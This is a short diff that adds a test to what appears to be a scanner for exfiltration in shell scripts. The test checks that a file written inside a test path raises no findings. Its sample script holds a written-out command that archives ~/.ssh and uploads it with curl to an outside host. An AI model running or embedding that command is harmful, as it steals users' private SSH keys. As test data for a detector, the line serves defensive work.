@@ -31,3 +31,9 @@ test.each([
   const findings = await found("setup.sh", script);
   expect(findings.filter((one) => one.includes("exfiltration"))).toStrictEqual(expected);
 });
+
+test("takes what a test writes for what it tries out", async () => {
+  const script = "cat > bad.sh <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\nscan bad.sh\n";
+  expect(await found("tests/scan.sh", script)).toStrictEqual([]);
+  expect(await found("test-scan.sh", script)).toStrictEqual([]);
+});
